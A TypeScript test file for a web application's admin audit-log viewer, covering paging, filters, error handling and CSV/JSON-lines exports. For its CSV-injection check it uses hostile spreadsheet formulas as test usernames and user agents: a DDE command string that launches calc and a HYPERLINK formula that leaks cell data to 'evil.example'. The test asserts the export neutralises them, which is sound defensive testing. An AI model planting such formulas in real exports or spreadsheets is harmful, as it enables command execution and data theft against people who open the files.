// Property: the audit viewer shows the log as it is and its exports are safe to open
// (issue #11).
//  - newest first, 50 a page; following "Older events" to the end shows every event exactly
//    once; filters by username (by or about that account), type, IP and time range (a date
//    is its whole day; datetime-local to the minute, UTC) return exactly the matching events;
//    a filter that is not a real time is a 400 on the form, never a 500;
//  - the CSV and JSON-lines exports hold every event of the filtered view (all pages), come
//    as attachments with nosniff (v5.0.0-3.2.1), parse (RFC 4180 with the fixed header; one
//    JSON object per line with time, type, actor, target, ip, outcome: v5.0.0-16.2.1), and a
//    username or user agent starting with `=`, `+`, `-`, `@` comes out neutralised in the CSV;
//  - every export is itself recorded: `audit.exported` with its format and filters (a HEAD
//    exports nothing and records nothing).
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { AuditContext } from '../../src/domain/audit/events.ts';
import type { Clock } from '../../src/domain/clock.ts';
import { normalizeEmail, normalizeUsername } from '../../src/domain/users/user.ts';
import { CSV_HEADER } from '../../src/http/audit-export.ts';
import { TestClient } from '../helpers/client.ts';
import { startTestServer, type TestServer } from '../helpers/server.ts';

const DAY = 86_400_000;
const FORMULA_NAME = "=cmd|' /C calc'!A0";
const SUM_NAME = '@SUM(1)';
const FORMULA_AGENT = '=HYPERLINK("http://evil.example/?leak="&A1)';

let server: TestServer;
let admin: TestClient;
let adminId: number;
let formulaId: number;
let skew = 0;
const clock: Clock = { now: () => Date.now() + skew };
/** Midnight UTC three days ago, the day batch A was recorded on. */
let dayA: Date;

/** RFC 4180: quoted fields, "" inside quotes, CRLF between records (and allowed inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), (i += 1);
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += ch;
  }
  assert.equal(cell + row.join(''), '', 'the file ends with CRLF');
  return rows;
}

function seqsOn(body: string): number[] {
  return [...body.matchAll(/<tr data-seq="(\d+)">/g)].map((m) => Number(m[1]));
}

function unescape(text: string): string {
  return text.replaceAll('&amp;', '&');
}

async function allSeqs(where?: { type?: string }): Promise<number[]> {
  let query = server.deps.database.db.selectFrom('audit_events').select('seq').orderBy('seq', 'desc');
  if (where?.type) query = query.where('type', '=', where.type);
  return (await query.execute()).map((row) => Number(row.seq));
}

async function createRaw(username: string): Promise<number> {
  const created = await server.deps.users.createUser({
    username,
    usernameNormalized: normalizeUsername(username),
    email: `${username.replace(/[^a-z0-9]/gi, '')}${username.length}@example.test`,
    emailNormalized: normalizeEmail(`${username.replace(/[^a-z0-9]/gi, '')}${username.length}@example.test`),
    passwordHash: '$argon2id$v=19$m=1024,t=1,p=1$c2FsdHNhbHQ$aGFzaGhhc2hoYXNoaGFzaA',
    role: 'user',
    createdAt: new Date(clock.now()),
  });
  assert.ok(created.ok, username);
  return created.user.id;
}

before(async () => {
  server = await startTestServer({ REGISTER_MAX_PER_HOUR: '1000' }, { clock });
  admin = new TestClient(server.url);
  assert.equal((await admin.registerAndSignIn('auditor')).status, 303);
  adminId = (await server.deps.users.findUserByUsername('auditor'))!.id;
  assert.ok(await server.deps.users.setRole(adminId, 'admin'));
  formulaId = await createRaw(FORMULA_NAME);
  const sumId = await createRaw(SUM_NAME);
  const web = (ip: string, userAgent: string | null = 'test'): AuditContext => ({ actorUserId: null, ip, userAgent, channel: 'web' });
  // Batch A, three days ago at noon; batch B, yesterday at noon: five failed sign-ins each.
  dayA = new Date(Math.floor((Date.now() - 3 * DAY) / DAY) * DAY);
  for (const [offset, ip] of [[3, '198.51.100.7'], [1, '198.51.100.8']] as const) {
    skew = Math.floor((Date.now() - offset * DAY) / DAY) * DAY + DAY / 2 - Date.now();
    for (let i = 0; i < 5; i += 1) {
      await server.deps.audit.record({ type: 'login.failed', outcome: 'failure', targetUserId: formulaId, details: { reason: 'bad_password' } }, web(ip));
    }
  }
  skew = 0;
  // Sixty events now, enough for two pages.
  for (let i = 0; i < 60; i += 1) {
    await server.deps.audit.record({ type: 'profile.viewed', outcome: 'success', targetUserId: formulaId }, { ...web('203.0.113.5'), actorUserId: adminId });
  }
  await server.deps.audit.record({ type: 'profile.viewed', outcome: 'success', targetUserId: sumId }, { ...web('203.0.113.6'), actorUserId: adminId });
  // Failed sign-ins through the form, as the names with formula starts, with formula user agents.
  for (const [username, agent] of [[FORMULA_NAME, FORMULA_AGENT], [SUM_NAME, '@SUM(2)'], [SUM_NAME, '+1-1'], [SUM_NAME, '-cmd']] as const) {
    const client = new TestClient(server.url);
    await client.get('/login');
    assert.equal((await client.postForm('/login', { username, password: 'not the password at all' }, { 'user-agent': agent })).status, 401);
  }
});
after(() => server?.stop());

describe('the audit viewer', () => {
  test('newest first, 50 a page; "Older events" to the end shows every event exactly once', async () => {
    const expected = await allSeqs();
    const seen: number[] = [];
    let path: string | undefined = '/admin/audit';
    let pages = 0;
    while (path) {
      const page = await admin.get(path);
      assert.equal(page.status, 200);
      const seqs = seqsOn(page.body);
      assert.ok(seqs.length <= 50);
      seen.push(...seqs);
      path = /<a href="(\/admin\/audit\?[^"]*before=\d+[^"]*)" rel="next">Older events<\/a>/.exec(page.body)?.[1];
      if (path) path = unescape(path);
      pages += 1;
    }
    assert.ok(pages >= 2, 'more than one page');
    assert.deepEqual(seen, expected);
  });

  test('filters: type and IP, username (by or about), date and datetime-local ranges in UTC', async () => {
    assert.deepEqual(seqsOn((await admin.get('/admin/audit?type=login.failed&ip=198.51.100.7')).body).length, 5);
    const aboutFormula = seqsOn((await admin.get(`/admin/audit?user=${encodeURIComponent(FORMULA_NAME)}`)).body);
    assert.equal(aboutFormula.length, 50, 'a full page: 71 events are about that account');
    const date = dayA.toISOString().slice(0, 10);
    assert.equal(seqsOn((await admin.get(`/admin/audit?from=${date}&to=${date}`)).body).length, 5, 'a date is its whole day');
    const noon = `${date}T12:00`;
    assert.equal(seqsOn((await admin.get(`/admin/audit?from=${noon}&to=${noon}`)).body).length, 5, 'a datetime-local is its whole minute');
    assert.equal(seqsOn((await admin.get(`/admin/audit?from=${date}T12:01&to=${date}T23:59`)).body).length, 0);
    assert.equal(seqsOn((await admin.get(`/admin/audit?type=login.failed&from=${dayA.toISOString().slice(0, 10)}&ip=198.51.100.8`)).body).length, 5);
    const unknown = await admin.get('/admin/audit?user=nobody-here');
    assert.equal(unknown.status, 200);
    assert.match(unknown.body, /No account is named nobody-here/);
    assert.deepEqual(seqsOn(unknown.body), []);
    for (const query of ['from=2025-02-30', 'to=yesterday', `from=${date}&to=2000-01-01`, 'type=login.hacked', 'before=abc', 'ip=a&ip=b']) {
      const response = await admin.get(`/admin/audit?${query}`);
      assert.equal(response.status, 400, query);
      assert.match(response.body, /role="alert"/, query);
      assert.deepEqual(seqsOn(response.body), [], query);
      assert.equal((await admin.get(`/api/v1/admin/audit?${query}`)).status, 400, `api ${query}`);
    }
    const spanish = await admin.get('/admin/audit?type=login.failed&lang=es');
    assert.match(spanish.body, /<h1>Registro de auditoría<\/h1>/);
    await admin.get('/admin/audit?lang=en');
  });

  test('the API pages the same way with next', async () => {
    const seen: number[] = [];
    let next: string | null = '';
    while (next !== null) {
      const page: { events: { seq: number; type: string; time: string }[]; next: string | null } = (await admin.get(`/api/v1/admin/audit?type=login.failed&limit=4${next ? `&before=${next}` : ''}`)).json();
      seen.push(...page.events.map((event: { seq: number }) => event.seq));
      assert.ok(page.events.every((event: { type: string; time: string }) => event.type === 'login.failed' && event.time.endsWith('Z')));
      next = page.next;
    }
    assert.deepEqual(seen, await allSeqs({ type: 'login.failed' }));
  });
});

describe('exports', () => {
  test('CSV: an attachment, the header, every matching event, formula starts neutralised', async () => {
    const response = await admin.get('/admin/audit.csv?type=login.failed');
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8');
    assert.match(response.headers.get('content-disposition') ?? '', /^attachment; filename="gatehouse-audit-\d{8}T\d{6}Z\.csv"$/);
    assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
    const rows = parseCsv(response.body);
    assert.deepEqual(rows[0], [...CSV_HEADER]);
    const body = rows.slice(1);
    assert.deepEqual(body.map((row) => Number(row[0])), await allSeqs({ type: 'login.failed' }));
    assert.ok(body.every((row) => row.length === CSV_HEADER.length));
    for (const row of body) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a formula cell: ${JSON.stringify(cell)}`);
    const column = (name: (typeof CSV_HEADER)[number]) => CSV_HEADER.indexOf(name);
    assert.ok(body.some((row) => row[column('target')] === `'${FORMULA_NAME}` && row[column('user_agent')] === `'${FORMULA_AGENT}`), 'the formula name and agent, quoted');
    const all = parseCsv((await admin.get('/admin/audit.csv?type=profile.viewed')).body);
    assert.ok(all.some((row) => row[column('target')] === `'${SUM_NAME}`), 'the @SUM name, quoted');
    // (A leading tab cannot arrive in a header: HTTP strips it; the unit test covers tab and CR.)
    for (const agent of ['@SUM(2)', '+1-1', '-cmd']) assert.ok(body.some((row) => row[column('user_agent')] === `'${agent}`), agent);
  });

  test('JSON lines: one object per line with the required keys, every event of the filtered view', async () => {
    const response = await admin.get(`/admin/audit.jsonl?user=${encodeURIComponent(FORMULA_NAME)}`);
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('content-type'), 'application/x-ndjson; charset=utf-8');
    assert.match(response.headers.get('content-disposition') ?? '', /^attachment; filename="gatehouse-audit-\d{8}T\d{6}Z\.jsonl"$/);
    const lines = response.body.split('\n');
    assert.equal(lines.pop(), '', 'ends with a newline');
    const events = lines.map((line) => JSON.parse(line));
    for (const event of events) {
      for (const key of ['time', 'type', 'actor', 'target', 'ip', 'outcome']) assert.ok(key in event, `${key} in ${JSON.stringify(event)}`);
      assert.match(event.time, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
      assert.ok(event.actorId === formulaId || event.targetId === formulaId);
    }
    // All pages: 10 + 60 + 1 about that account, and this export's own record (written first).
    assert.equal(events.length, 72);
    assert.equal(events[0].type, 'audit.exported');
    assert.ok(events.some((event) => event.target === FORMULA_NAME && event.userAgent === FORMULA_AGENT), 'kept as is in JSON');
  });

  test('every export is recorded: audit.exported with its format and filters', async () => {
    const before = await server.deps.database.db.selectFrom('audit_events').selectAll().where('type', '=', 'audit.exported').execute();
    assert.equal((await admin.get('/admin/audit.csv?ip=198.51.100.8&from=2000-01-01')).status, 200);
    assert.equal((await admin.get('/admin/audit.jsonl')).status, 200);
    assert.equal((await admin.get('/admin/audit.csv?from=not-a-date')).status, 400);
    const head = await admin.request('HEAD', '/admin/audit.csv');
    assert.equal(head.status, 200, 'HEAD answers the headers, exports nothing and records nothing');
    assert.match(head.headers.get('content-disposition') ?? '', /^attachment;/);
    const rows = await server.deps.database.db.selectFrom('audit_events').selectAll().where('type', '=', 'audit.exported').orderBy('seq').execute();
    const added = rows.slice(before.length).map((row) => ({ actor: Number(row.actor_user_id), details: JSON.parse(row.details) }));
    assert.deepEqual(added, [
      { actor: adminId, details: { format: 'csv', user: null, type: null, ip: '198.51.100.8', from: '2000-01-01', to: null } },
      { actor: adminId, details: { format: 'jsonl', user: null, type: null, ip: null, from: null, to: null } },
    ]);
  });
});
